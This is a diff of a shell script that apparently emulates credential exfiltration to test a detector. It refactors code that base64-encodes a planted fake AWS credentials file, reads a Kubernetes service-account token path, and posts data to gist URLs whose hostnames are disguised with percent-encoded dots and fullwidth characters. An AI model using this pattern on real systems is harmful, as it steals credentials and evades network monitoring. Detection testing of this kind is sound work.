@@ -51,16 +51,11 @@ case "$EMU_ROLE" in
     url="${EMU_FORGE_URL%%://*}://$(printf '%s' "$host" | sed 's/\./%2e/g')$port${base_path%/}/gists"
     HOME="$work/home"
     emu_fake_secrets "$HOME"
-    content=$(base64 "$HOME/.aws/credentials" | tr -d '\n')
-    printf '{"files":{"x":{"content":"%s"}},"public":false}' "$content" >"$work/g.json"
-    emu_log "posting the fake credentials to $url"
-    emu_retry 12 curl -fsS -o /dev/null -X POST -H "Authorization: Bearer ghp_FAKEEXAMPLETOKEN000000000000000000" \
-      --data-binary "@$work/g.json" "$url"
+    emu_post_fake_aws_gist "$work" "$url"
     emu_expect sensitive-read-then-push high
     ;;
   web)
-    token=/var/run/secrets/kubernetes.io/serviceaccount/token
-    [ -r "$token" ] || emu_die "no service-account token mounted at $token (automountServiceAccountToken: true is needed)"
+    emu_read_sa_token
     first=${host%%.*}
     url="${EMU_FORGE_URL%%://*}://$(fullwidth "$first")$(printf '%s' "${host#"$first"}" | sed 's/\./。/g')$port${base_path%/}/gists"
     if ! curl -V | grep -q '^Features:.* IDN'; then
@@ -69,7 +64,6 @@ case "$EMU_ROLE" in
       exit 0
     fi
     mkdir -p "$work"
-    cat "$token" >/dev/null
     printf '{"files":{"t":{"content":"FAKE-SERVICE-ACCOUNT-TOKEN-EXAMPLE"}}}' >"$work/g2.json"
     emu_log "posting a placeholder token to $url"
     emu_retry 12 curl -fsS -o /dev/null -H "Authorization: Bearer ghp_FAKEEXAMPLETOKEN000000000000000000" \
